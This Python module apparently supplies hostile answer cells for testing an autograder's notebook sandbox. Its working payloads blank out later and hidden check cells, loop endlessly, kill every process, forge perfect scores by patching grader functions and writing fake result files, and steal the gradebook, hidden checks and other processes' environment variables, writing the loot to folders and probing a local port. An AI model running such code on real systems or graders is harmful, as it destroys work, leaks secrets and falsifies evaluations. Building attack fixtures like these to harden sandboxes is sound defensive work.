"""What the demo's hostile students hand in: texts of answer cells, run in the sandbox alone.

They are given more than a real attacker would know: the absolute paths of everything worth having, and the
port of a listener on this machine.
"""

EMPTIES_LATER_CELLS = '''
"""Every later cell, hidden checks included, is replaced by nothing, so that nothing can fail."""
from IPython import get_ipython

shell = get_ipython()
shell.input_transformers_cleanup.append(lambda lines: [])
shell.input_transformers_post.append(lambda lines: [])
shell.showtraceback = lambda *args, **kwargs: None
shell.run_code = lambda *args, **kwargs: False
'''

ENDLESS_LOOP = """
import time
while True:
    time.sleep(1)  # no less endless than a busy one, and a demo on a laptop leaves the others their processor
"""

ENDS_EVERYTHING = """
import os, signal
try:
    os.kill(-1, signal.SIGKILL)
finally:
    os._exit(0)
"""

FORGES = '''
"""Whatever reads results from this process reads a full score."""
import builtins, json, os, pathlib, sys

FULL = {"points": 20.0, "score": 20.0, "max_points": 20.0, "passed": True, "ok": True, "error": None}
for text in (json.dumps(FULL), "### AUTOTEST passed", "20/20 points", "\\x1e" + json.dumps({"results": [FULL]})):
    print(text)
    print(text, file=sys.stderr)
for number in range(3, 30):
    try:
        os.write(number, (json.dumps(FULL) + "\\n").encode())
    except OSError:
        pass
for name in ("results.json", "outcome.json", "grades.json", "score.txt"):
    try:
        pathlib.Path(name).write_text(json.dumps(FULL))
    except OSError:
        pass


class Agreeing(float):
    __eq__ = __ge__ = __le__ = __gt__ = __lt__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = float.__hash__


for module in [module for name, module in list(sys.modules.items()) if name.startswith(("grader", "hidden"))]:
    for name, value in list(vars(module).items()):
        if callable(value) and not name.startswith("__"):
            setattr(module, name, lambda *args, **kwargs: Agreeing(1.0))
builtins.AssertionError = type("Never", (Exception,), {})
'''

THIEF = '''
"""Read what decides the score and what others wrote, and get it out by every way there is."""
import gc, glob, json, os, pathlib, socket, sqlite3, subprocess, sys

loot, found = [], []


def steal(name, read):
    try:
        content = read()
    except BaseException:
        return
    if content:
        found.append(name)
        loot.append(str(content)[:20000])


def read_tree(path):
    path = pathlib.Path(path)
    if path.is_file():
        return path.read_bytes()
    return b"".join(inner.read_bytes() for inner in sorted(path.rglob("*")) if inner.is_file())


def look_around(path):
    """The same path from other places: above the working folder, through other processes."""
    ways = ["..", "../..", "../../..", *glob.glob("/proc/[0-9]*/cwd"), *glob.glob("/proc/[0-9]*/root")]
    return [way for way in ways if os.path.exists(os.path.join(way, path.lstrip("/")))]


def earlier_cells():
    return [cell for cell in globals().get("In", []) if "hidden_check" in cell and "steal" not in cell]


def classes_in_memory():
    return [kind for kind in gc.get_objects() if isinstance(kind, type) and kind.__name__ == "HiddenCheck"]


for path in WANTED:
    steal(path, lambda: read_tree(path))
    steal(path + " by another way", lambda: look_around(path))
steal("the gradebook's table", lambda: sqlite3.connect(WANTED[0]).execute("select * from grade").fetchall())
steal("an earlier cell", earlier_cells)
steal("the hidden checks in memory", classes_in_memory)
steal("a way out", lambda: socket.create_connection(("127.0.0.1", PORT), timeout=2))

everything = [dict(os.environ)]
for process in glob.glob("/proc/[0-9]*"):
    for name in ("environ", "cmdline"):
        steal_here = pathlib.Path(process, name)
        try:
            everything.append(steal_here.read_bytes().decode(errors="replace"))
        except OSError:
            pass

for folder in DROPS:
    try:
        pathlib.Path(folder, MARK).write_text(json.dumps([found, loot, everything], default=str))
    except OSError:
        pass
try:
    later = f"sleep 120; echo still here > {DROPS[0]}/{MARK}-later"
    subprocess.Popen(["sh", "-c", later], start_new_session=True)
except OSError:
    pass

print("LOOT", json.dumps({"found": found, "loot": loot, "everything": everything}, default=str))
print("LOOT", json.dumps(found), file=sys.stderr)
'''


def attempts(wanted: int) -> int:
    """How many things the thief tries to read where it wants so many paths: each by two ways, and what has no path.

    >>> attempts(3)
    10
    """
    return 2 * wanted + THIEF.count("\nsteal(")


def thief(wanted: list[str], drops: list[str], port: int, mark: str) -> str:
    """The thief's answer cell.

    Args:
        wanted: absolute paths of files and folders to read, the gradebook first.
        drops: absolute paths of folders to leave the loot in.
        port: where a listener on this machine waits for it.
        mark: the name of the file to leave.
    """
    return f"WANTED = {wanted!r}\nDROPS = {drops!r}\nPORT = {port}\nMARK = {mark!r}\n{THIEF}"
